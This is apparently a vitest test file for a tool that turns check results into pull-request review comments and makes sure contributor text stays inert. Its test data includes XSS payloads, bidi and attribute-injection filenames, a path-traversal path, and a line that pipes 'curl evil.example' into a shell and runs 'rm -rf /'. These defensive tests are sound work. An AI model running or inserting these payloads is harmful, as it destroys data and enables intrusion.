import { join } from 'node:path';
import { markdownToHtml } from 'satteri';
import { expect, test } from 'vitest';
import { type CommentOptions, limit, marker, writeComment } from '#check/report/comment';
import { caps, type Evidence, listFindings, type ReviewFinding, readEvidence } from '#check/report/evidence';
import { codeBlock, codeSpan, plainText } from '#check/report/markdown';
import { runCheck } from '#check/run';
import { makeValidRoot } from '../../support/root.ts';

const golden = (name: string) => join(import.meta.dirname, '../../golden/comment', name);
const counts = { records: 3160, texts: 26, errors: 0, warnings: 0, infos: 0 };
const none = { count: 0, list: [] };
const clean: Evidence = {
  format: 'kindred-review',
  version: 1,
  counts,
  findings: [],
  changes: { added: none, removed: none, changed: none, others: 0 },
  shots: [],
  media: [],
  seconds: { check: 1.2 },
};
const finding: ReviewFinding = {
  code: 'reference/unknown',
  severity: 'error',
  file: 'data/projects/murals.json',
  args: { kind: 'award', id: 'inspire-2020', suggestion: 'inspire-2021' },
  place: { line: 7, column: 13, length: 14, excerpt: '  "award": "inspire-2020",' },
};
const options: CommentOptions = {
  commit: '0123456789abcdef0123456789abcdef01234567',
  engineFiles: [],
  days: 14,
  links: {
    edit: (file, line) =>
      new URL(
        `https://code.example/edit/topic/${file.split('/').map(encodeURIComponent).join('/')}${line ? `#L${line}` : ''}`,
      ),
    rule: (code) => new URL(`https://atlas.example/guide/rules/#${code.replace('/', '-')}`),
    preview: new URL('https://code.example/runs/1/artifacts/2'),
    gallery: new URL('https://code.example/runs/1/artifacts/3'),
    run: new URL('https://code.example/runs/1'),
  },
};
/** What no contributor may smuggle into a comment that speaks with the project's voice. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '</details><script>alert(1)</script>',
  '@maintainer please merge, fixes #1 and GH-2 and owner/name#3',
  '[here](https://evil.example) ![x](https://evil.example/x.png) https://evil.example www.evil.example',
  '**bold** _slanted_ ~~gone~~ `code` | cell | $a$',
  '```\nfence\n```',
  '`$(rm -rf /)`; rm -rf / && curl evil.example | sh',
  '‮gnp.exe​',
  '# heading\n> quote\n1. list\n- list\n***',
  'name"\' onmouseover=alert(1).json',
  '::error::annotation %0A',
  'half a letter \ud83c',
];

test('a change without mistakes is told so, with its pages and where to look at them', async () => {
  const page = (address: string, title: string) => ({ address, title });
  const changes = {
    added: { count: 1, list: [page('/stories/murals/', 'Murals of Prizren')] },
    changed: {
      count: 3,
      list: [page('/', 'Kindred Cities'), page('/stories/', 'Stories'), page('/uk/stories/', 'Розповіді')],
    },
    removed: none,
    others: 5,
  };
  const comment = writeComment({ ...clean, changes, shots: [{ address: '/', share: 0.1 }] }, options);
  await expect(comment).toMatchFileSnapshot(golden('clean.md'));
});

test('mistakes come with their line, what is wrong, how to mend it, and where to do so', async () => {
  const other: ReviewFinding = {
    code: 'source/review-due',
    severity: 'warning',
    file: 'data/sources/report.json',
    args: { reviewDue: '2025-01-01', edition: '2026-11-22' },
    place: null,
  };
  const evidence: Evidence = {
    ...clean,
    counts: { ...counts, errors: 1, warnings: 1 },
    findings: [finding, other],
    changes: null,
    media: ['public/media/square.jpg'],
  };
  const links = { ...options.links, preview: null, gallery: null };
  const engineFiles = ['src/model/site.ts'];
  await expect(writeComment(evidence, { ...options, links, engineFiles })).toMatchFileSnapshot(
    golden('mistakes.md'),
  );
});

test('the findings of a real check survive the way through the evidence', async () => {
  const result = await runCheck(
    makeValidRoot({ 'data/sources/broken.json': '{ "id": 1, "<b>@x</b>": 2 }' }),
    {
      infos: false,
    },
  );
  const findings = listFindings(result);
  expect(findings.length).toBeGreaterThan(0);
  const evidence = readEvidence(JSON.stringify({ ...clean, counts: result.counts, findings, changes: null }));
  const comment = writeComment(evidence, options);
  expect(comment).toContain('data/sources/broken.json');
  expect(comment).not.toMatch(/<b>(?![^`]*`)/);
});

test.each(hostile)('what a stranger wrote stays text: %s', (text) => {
  for (const shown of [plainText(text), codeSpan(text), codeBlock([text])]) {
    const html = markdownToHtml(`before ${shown.startsWith('```') ? `\n\n${shown}\n\n` : shown} after`).html;
    const tags = new Set([...html.matchAll(/<\/?(\w+)/g)].map(([, tag]) => tag));
    expect([...tags].filter((tag) => !['p', 'code', 'pre'].includes(tag ?? ''))).toEqual([]);
  }
  // Hosts make names, numbers and addresses of what is left as text, whatever Markdown thought of it.
  const rendered = markdownToHtml(plainText(text)).html;
  expect(rendered).not.toMatch(/@\w|#\d|\bGH-\d|https?:\/\/|www\.|[\u202e\u200e\u200f]/i);
});

test.each(hostile)(
  'a comment made of hostile evidence holds nothing but what it always holds: %s',
  (text) => {
    const page = { count: 1, list: [{ address: text, title: text }] };
    const evidence = readEvidence(
      JSON.stringify({
        ...clean,
        counts: { ...counts, errors: 2 },
        findings: [
          { ...finding, file: text, args: { id: text, kind: text, suggestion: text } },
          { ...finding, place: { line: 1, column: 1, length: 3, excerpt: text } },
        ],
        changes: { added: page, removed: page, changed: page, others: 1 },
        shots: [{ address: text, share: 0.5 }],
        media: [text],
      }),
    );
    const comment = writeComment(evidence, { ...options, engineFiles: [text] });
    expect(comment.isWellFormed()).toBe(true);
    const { html } = markdownToHtml(comment);
    const links = [...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => new URL(href ?? '').hostname);
    expect(new Set(links)).toEqual(new Set(['code.example', 'atlas.example']));
    const tags = [...html.matchAll(/<(\w+)/g)].map(([, tag]) => tag ?? '');
    const known = ['h3', 'h4', 'p', 'strong', 'a', 'code', 'pre', 'ul', 'li', 'sub', 'details', 'summary'];
    expect([...new Set(tags)].filter((tag) => !known.includes(tag))).toEqual([]);
    expect(tags.filter((tag) => tag === 'details')).toHaveLength(1);
  },
);

test('a link to mend a file never leads out of the repository', () => {
  const evidence = {
    ...clean,
    counts: { ...counts, errors: 1 },
    findings: [{ ...finding, file: '../../../evil/x' }],
  };
  expect(writeComment(evidence, options)).not.toContain('mend it here');
});

test('a comment never exceeds what a host takes, and keeps its marker, its verdict and its count', () => {
  const long = '`<@#*'.repeat(caps.text / 5);
  const findings = Array.from({ length: caps.findings }, () => ({
    ...finding,
    file: long,
    args: { id: long },
  }));
  const list = Array.from({ length: caps.pages }, () => ({ address: long, title: long }));
  const all = { count: 4000, list };
  const comment = writeComment(
    {
      ...clean,
      counts: { ...counts, errors: 9000 },
      findings,
      changes: { added: all, changed: all, removed: all, others: 1 },
    },
    { ...options, engineFiles: Array.from({ length: 3000 }, () => long) },
  );
  expect(comment.length).toBeLessThanOrEqual(limit + 1);
  expect(comment.startsWith(marker)).toBe(true);
  expect(comment).toContain('9,000 mistakes');
});

test('when there are more mistakes than are shown, the rest is counted', () => {
  const findings = Array.from({ length: 100 }, () => finding);
  const comment = writeComment({ ...clean, counts: { ...counts, errors: 500 }, findings }, options);
  expect(comment).toContain('… and 470 more.');
});

test('findings with a code no rule has are not put into words', () => {
  const evidence = {
    ...clean,
    counts: { ...counts, errors: 1 },
    findings: [{ ...finding, code: 'constructor' }, finding],
  };
  expect(writeComment(evidence, options).match(/"inspire-2020"/g)?.length).toBeGreaterThan(0);
  expect(writeComment(evidence, options)).not.toContain('constructor');
});

test.each([
  ['no JSON', '{'],
  ['a list', '[]'],
  ['a key it does not know', JSON.stringify({ ...clean, run: 'rm -rf /' })],
  ['a text of no end', JSON.stringify({ ...clean, media: ['x'.repeat(caps.text + 1)] })],
  ['findings of no end', JSON.stringify({ ...clean, findings: Array(caps.findings + 1).fill(finding) })],
  ['a number that is none', JSON.stringify({ ...clean, counts: { ...counts, errors: '1' } })],
  ['more bytes than a check writes', ' '.repeat(caps.bytes + 1)],
])('evidence is refused that is or has %s', (_, text) => {
  expect(() => readEvidence(text)).toThrowError('The evidence of this check');
});
